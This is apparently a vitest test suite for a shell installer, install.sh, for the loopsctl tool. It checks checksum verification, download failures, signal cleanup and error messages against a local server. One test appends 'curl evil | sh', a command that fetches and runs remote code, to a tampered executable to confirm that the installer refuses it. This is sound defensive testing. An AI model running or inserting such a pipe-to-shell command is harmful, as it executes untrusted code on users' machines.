/**
 * install.sh, run with sh against release files served from 127.0.0.1: it installs a verified
 * executable, and refuses each bad input with one line, a non-zero exit and nothing installed.
 */
import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join, resolve } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { tempDir } from '../support/temp.js';

const script = resolve(import.meta.dirname, '../../install.sh');
const arch = process.arch === 'arm64' ? 'arm64' : 'x64';
const platform = `${process.platform}-${arch}`;
const executable = (version: string) => `#!/bin/sh\necho "loopsctl ${version}"\n`;
const which = (program: string) => execFileSync('sh', ['-c', `command -v ${program}`], { encoding: 'utf8' }).trim();
const has = (program: string) => {
  try {
    return which(program) !== '';
  } catch {
    return false;
  }
};
if (!has('wget')) process.stderr.write("install-script.test.ts: no wget here, so install.sh's download with wget is not tested\n");
const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');

/** What the server answers for each path: a body, a body cut short of its announced length, or the start of one that never ends. */
type Answer = { body: string; type?: string } | { cut: string } | { stall: string };
let answers = new Map<string, Answer>();
let server: Server;
let base: string;

beforeAll(async () => {
  server = createServer((request, response) => {
    const answer = answers.get(request.url ?? '');
    if (answer === undefined) return response.writeHead(404).end('not found');
    if ('cut' in answer) {
      response.writeHead(200, { 'content-length': answer.cut.length * 2 });
      response.write(answer.cut);
      return response.socket?.destroy();
    }
    if ('stall' in answer) {
      response.writeHead(200, { 'content-length': answer.stall.length * 2 });
      return response.write(answer.stall);
    }
    response.writeHead(200, { 'content-type': answer.type ?? 'application/octet-stream' }).end(answer.body);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/release`;
});
afterAll(() => {
  server.closeAllConnections();
  return new Promise((done) => server.close(done));
});

/** A release of two versions' files and a SHA256SUMS that lists them. */
function release(
  files: Record<string, string>,
  sums = Object.entries(files)
    .map(([name, body]) => `${sha256(body)}  ${name}\n`)
    .join(''),
) {
  answers = new Map(Object.entries(files).map(([name, body]) => [`/release/${name}`, { body }]));
  answers.set('/release/SHA256SUMS', { body: sums });
}

/**
 * Runs install.sh into a new directory's bin/; a variable given as undefined is left unset. With
 * `started`, it runs in a process group of its own, as a terminal's job does, handed to `started`.
 */
function install(args: string[] = [], env: Record<string, string | undefined> = {}, cwd?: string, started?: (child: ChildProcess, installDir: string) => void) {
  const dir = tempDir('loopsctl-install-');
  const installDir = join(dir, 'bin');
  const variables = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: dir, LOOPSCTL_INSTALL_BASE_URL: base, LOOPSCTL_INSTALL_DIR: installDir, ...env };
  return new Promise<{ code: number | null; stdout: string; stderr: string; installDir: string }>((done) => {
    const child = spawn('sh', [script, ...args], {
      cwd,
      env: Object.fromEntries(Object.entries(variables).filter(([, value]) => value !== undefined)),
      detached: started !== undefined,
    });
    started?.(child, installDir);
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (chunk) => (stdout += chunk));
    child.stderr.setEncoding('utf8').on('data', (chunk) => (stderr += chunk));
    child.on('close', (code) => done({ code, stdout, stderr, installDir }));
  });
}

/** Nothing of an install is left: no executable, no partial download. */
function nothingInstalled(installDir: string) {
  expect(existsSync(installDir) ? readdirSync(installDir) : []).toEqual([]);
}

describe('install.sh', () => {
  it('installs the verified executable for this machine, atomically, and says how to put it on PATH', async () => {
    release({ [`loopsctl-0.2.0-${platform}`]: executable('0.2.0'), 'loopsctl-0.2.0-windows-x64.exe': 'other', 'loopsctl-0.2.0.tgz': 'tarball' });
    const result = await install();
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(`Installed loopsctl-0.2.0-${platform} as ${result.installDir}/loopsctl`);
    expect(result.stdout).toContain(`export PATH="${result.installDir}:$PATH"`);
    expect(readdirSync(result.installDir)).toEqual(['loopsctl']);
    const ran = spawn(join(result.installDir, 'loopsctl'));
    const said = await new Promise<string>((done) => {
      let text = '';
      ran.stdout.setEncoding('utf8').on('data', (chunk) => (text += chunk));
      ran.on('close', () => done(text));
    });
    expect(said).toBe('loopsctl 0.2.0\n');
  });

  it.skipIf(!has('wget'))(`downloads with wget where there is no curl${has('wget') ? '' : ' (skipped: wget is not installed)'}`, async () => {
    release({ [`loopsctl-0.2.0-${platform}`]: executable('0.2.0') });
    // Only the programs install.sh uses, curl left out.
    const tools = tempDir('loopsctl-tools-');
    for (const tool of ['sh', 'uname', 'mkdir', 'grep', 'cut', 'sha256sum', 'chmod', 'mv', 'rm', 'head', 'wget']) symlinkSync(which(tool), join(tools, tool));
    const result = await install([], { PATH: tools });
    expect(result.stderr).toBe('');
    expect(result.stdout).toContain(`Installed loopsctl-0.2.0-${platform}`);
  });

  it('installs the version named by its first argument', async () => {
    release({ [`loopsctl-0.1.0-${platform}`]: executable('0.1.0'), [`loopsctl-0.2.0-${platform}`]: executable('0.2.0') });
    const result = await install(['v0.1.0']);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(`Installed loopsctl-0.1.0-${platform}`);
  });

  it('refuses an executable that does not match its checksum', async () => {
    const name = `loopsctl-0.2.0-${platform}`;
    release({ [name]: executable('0.2.0') });
    answers.set(`/release/${name}`, { body: `${executable('0.2.0')}curl evil | sh\n` });
    const result = await install();
    expect(result.code).not.toBe(0);
    const refusal = `^loopsctl install: ${name} does not match its checksum \\(expected [0-9a-f]{64}, got [0-9a-f]{64}\\): not installed\n$`;
    expect(result.stderr).toMatch(new RegExp(refusal));
    nothingInstalled(result.installDir);
  });

  it('refuses a release whose checksum list has no line for this platform', async () => {
    release({ 'loopsctl-0.2.0-windows-x64.exe': 'other' });
    answers.set(`/release/loopsctl-0.2.0-${platform}`, { body: executable('0.2.0') });
    const result = await install();
    expect(result.code).not.toBe(0);
    expect(result.stderr).toBe(`loopsctl install: the release has no checksum for a build for ${platform}: not installed\n`);
    nothingInstalled(result.installDir);
  });

  it('refuses a release address that answers a web page', async () => {
    release({ [`loopsctl-0.2.0-${platform}`]: executable('0.2.0') });
    answers.set('/release/SHA256SUMS', { body: '<!DOCTYPE html>\n<html><body>Sign in</body></html>\n', type: 'text/html' });
    const result = await install();
    expect(result.code).not.toBe(0);
    expect(result.stderr).toMatch(/^loopsctl install: http:\/\/127\.0\.0\.1:\d+\/release\/SHA256SUMS is not a checksum list/);
    nothingInstalled(result.installDir);
  });

  it('refuses a download cut short', async () => {
    const name = `loopsctl-0.2.0-${platform}`;
    release({ [name]: executable('0.2.0') });
    answers.set(`/release/${name}`, { cut: executable('0.2.0') });
    const result = await install();
    expect(result.code).not.toBe(0);
    expect(result.stderr).toContain(`loopsctl install: could not download ${base}/${name}\n`);
    nothingInstalled(result.installDir);
  });

  it.each([
    ['SIGHUP', 129],
    ['SIGINT', 130],
    ['SIGTERM', 143],
  ] as const)('removes its partial download when its terminal sends %s mid-download', async (signal, code) => {
    const name = `loopsctl-0.2.0-${platform}`;
    release({ [name]: executable('0.2.0') });
    answers.set(`/release/${name}`, { stall: executable('0.2.0') });
    let downloading!: Promise<void>;
    const result = await install([], {}, undefined, (child, installDir) => {
      downloading = (async () => {
        // The signal is sent once the partial download is there to be left behind.
        while (!(existsSync(installDir) && readdirSync(installDir).some((entry) => entry.startsWith('.loopsctl-download.')))) await sleep(10);
        // To the whole job, as a terminal does: the download program and the script alike.
        process.kill(-child.pid!, signal);
      })();
    });
    await downloading;
    expect(result.code).toBe(code);
    nothingInstalled(result.installDir);
  });

  it('refuses a platform it has no build for', async () => {
    release({ [`loopsctl-0.2.0-${platform}`]: executable('0.2.0') });
    const fakeBin = tempDir('loopsctl-uname-');
    writeFileSync(join(fakeBin, 'uname'), '#!/bin/sh\n[ "$1" = -s ] && echo Plan9 || echo mips\n');
    chmodSync(join(fakeBin, 'uname'), 0o755);
    const result = await install([], { PATH: `${fakeBin}:${process.env.PATH}` });
    expect(result.code).not.toBe(0);
    expect(result.stderr).toBe(
      "loopsctl install: no build for this system (Plan9); install with npm instead: npm install -g loopsctl (before it is on the npm registry: npm install -g <path to a clone, or a release's loopsctl-<version>.tgz>)\n",
    );
    nothingInstalled(result.installDir);
  });

  it('refuses an install directory it cannot make', async () => {
    release({ [`loopsctl-0.2.0-${platform}`]: executable('0.2.0') });
    const file = join(tempDir('loopsctl-install-'), 'a-file');
    writeFileSync(file, '');
    const result = await install([], { LOOPSCTL_INSTALL_DIR: join(file, 'bin') });
    expect(result.code).not.toBe(0);
    expect(result.stderr).toBe(`loopsctl install: cannot make the install directory ${join(file, 'bin')}\n`);
  });

  it('refuses a directory where the executable goes, and leaves it as it was', async () => {
    release({ [`loopsctl-0.2.0-${platform}`]: executable('0.2.0') });
    const installDir = join(tempDir('loopsctl-install-'), 'bin');
    mkdirSync(join(installDir, 'loopsctl'), { recursive: true });
    const result = await install([], { LOOPSCTL_INSTALL_DIR: installDir });
    expect(result.code).not.toBe(0);
    expect(result.stderr).toBe(`loopsctl install: ${installDir}/loopsctl is a directory: move it aside, or set LOOPSCTL_INSTALL_DIR\n`);
    expect(readdirSync(installDir)).toEqual(['loopsctl']);
    expect(readdirSync(join(installDir, 'loopsctl'))).toEqual([]);
  });

  it('without HOME or LOOPSCTL_INSTALL_DIR, says to set one of them', async () => {
    release({ [`loopsctl-0.2.0-${platform}`]: executable('0.2.0') });
    const result = await install([], { HOME: undefined, LOOPSCTL_INSTALL_DIR: undefined });
    expect(result.code).not.toBe(0);
    expect(result.stderr).toBe('loopsctl install: HOME is not set: set HOME, or LOOPSCTL_INSTALL_DIR to the directory to install into\n');
  });

  it('knows the install directory on PATH when PATH names it with a trailing slash', async () => {
    release({ [`loopsctl-0.2.0-${platform}`]: executable('0.2.0') });
    const installDir = join(tempDir('loopsctl-install-'), 'bin');
    const result = await install([], { LOOPSCTL_INSTALL_DIR: installDir, PATH: `${process.env.PATH}:${installDir}/` });
    expect(result.code).toBe(0);
    expect(result.stdout).toBe(`Installed loopsctl-0.2.0-${platform} as ${installDir}/loopsctl\n`);
  });

  it('installs into a relative LOOPSCTL_INSTALL_DIR, saying its absolute path for PATH', async () => {
    release({ [`loopsctl-0.2.0-${platform}`]: executable('0.2.0') });
    const cwd = tempDir('loopsctl-install-');
    const result = await install([], { LOOPSCTL_INSTALL_DIR: 'tools/bin' }, cwd);
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(`Installed loopsctl-0.2.0-${platform} as ${cwd}/tools/bin/loopsctl\n`);
    expect(result.stdout).toContain(`export PATH="${cwd}/tools/bin:$PATH"`);
    expect(readdirSync(join(cwd, 'tools', 'bin'))).toEqual(['loopsctl']);
  });

  it('refuses a first argument that is not a version', async () => {
    const result = await install(['--force']);
    expect(result.code).not.toBe(0);
    expect(result.stderr).toBe('loopsctl install: "--force" is not a version (say 0.2.0, or nothing for the latest)\n');
    nothingInstalled(result.installDir);
  });
});
